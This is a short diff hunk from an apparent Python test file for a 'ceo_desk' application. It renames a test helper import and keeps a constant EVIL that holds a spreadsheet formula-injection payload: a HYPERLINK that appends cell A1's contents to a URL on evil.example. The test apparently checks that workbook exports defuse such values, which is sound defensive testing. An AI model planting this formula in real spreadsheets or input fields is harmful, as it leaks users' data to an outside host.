@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 from ceo_desk.cli import main
 from ceo_desk.core.services import complaints
 from ceo_desk.store.db import Database
-from tests.helpers_safety import add_staff, log, resolve
+from tests.builders import add_staff, log, resolve
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
